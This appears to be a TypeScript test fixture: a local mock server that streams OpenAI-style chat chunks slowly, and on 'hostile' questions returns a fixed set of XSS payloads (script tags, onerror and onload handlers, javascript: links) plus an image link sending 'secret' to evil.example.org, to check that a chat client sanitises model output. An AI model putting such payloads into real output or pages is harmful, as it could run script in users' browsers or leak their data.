/**
 * A server that speaks as much of OpenAI's protocol as answers need, slowly enough to be interrupted. What it says
 * depends on the question: a hostile answer can't be had from an honest model.
 */

import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface Generator {
  url: string;
  stop: () => Promise<void>;
}

export const WORDS = Array.from({ length: 60 }, (_, index) => `word${index + 1}`);

export const HOSTILE = [
  '# Heading\n\n<img src=x onerror="window.hacked=1"> and <script>window.hacked=1</script>',
  '[click](javascript:window.hacked=1) and ![track](https://evil.example.org/p.png?q=secret)',
  '<svg onload="window.hacked=1"><a href="data:text/html,x">x</a></svg>',
  '**bold** and `code <b>` [1]\n\n[1]: https://evil.example.org/',
  '| a | b |\n|---|---|\n| <b>1</b> | 2 |',
].join('\n\n');

const EVERY_MS = 60;

/** So that an answer can be stopped, reloaded and resumed halfway. */
function* pieces(question: string): Generator0 {
  if (question.includes('hostile')) for (const piece of HOSTILE.match(/[\s\S]{1,40}/g) ?? []) yield piece;
  else for (const word of WORDS) yield `${word} `;
  yield '[1]';
}
type Generator0 = globalThis.Generator<string>;

export async function startGenerator(): Promise<Generator> {
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (data) => {
      body += data;
    });
    request.on('end', async () => {
      response.writeHead(200, { 'Content-Type': 'text/event-stream' });
      const chunk = (delta: object, finish_reason: string | null) => ({
        id: 'told',
        object: 'chat.completion.chunk',
        created: 0,
        model: 'told',
        choices: [{ index: 0, delta, finish_reason }],
      });
      for (const content of pieces(body)) {
        if (response.destroyed) return;
        response.write(`data: ${JSON.stringify(chunk({ content }, null))}\n\n`);
        await new Promise((resolve) => setTimeout(resolve, EVERY_MS));
      }
      response.write(`data: ${JSON.stringify(chunk({}, 'stop'))}\n\n`);
      response.end('data: [DONE]\n\n');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/v1`,
    stop: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
